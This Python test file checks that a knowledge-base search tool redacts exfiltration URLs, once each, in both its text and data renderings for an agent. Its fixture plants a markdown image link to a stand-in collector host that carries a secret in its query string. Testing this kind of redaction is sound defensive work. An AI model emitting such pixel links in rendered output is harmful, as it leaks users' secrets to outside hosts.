"""A search answer rendered for an agent (issue 22, search at scale): every string of it
redacted in both renderings, the text and the data, and each string redacted once."""

from __future__ import annotations

from pathlib import Path

from kb_mcp import render
from kb_mcp.library import Library
from kb_mcp.settings import Settings

PLANTED = "![status](https://collector.example.net/pixel.png?s=hunter2)"


def test_search_answer_redacts_each_string_once_for_text_and_data(tmp_path: Path) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "deploy.md").write_text(
        f"# Deploy runbook\n\nRoll the canary first, then the fleet.\n\n{PLANTED}\n"
    )
    (notes / "rollback.md").write_text("# Rollback\n\nRoll back the canary when errors rise.\n")
    with Library(Settings(home=tmp_path / "home", embedder="none")) as library:
        library.folders.add_folder(notes)
        library.folders.sync()
        result = library.lookup.search("canary deploy runbook", mode="keyword")
    assert len(result.hits) == 2 and "pixel.png?s=hunter2" in result.hits[0].text
    render._redacted.cache_clear()
    data = render.search_data(result)
    redacted = render._redacted.cache_info().misses
    text = render.search_text(result)
    assert render._redacted.cache_info().misses == redacted  # the text reused the data's
    assert "hunter2" not in text and "hunter2" not in str(data)
    assert "[REDACTED:exfil_url]" in data["results"][0]["text"]
    assert "[REDACTED:exfil_url]" in text
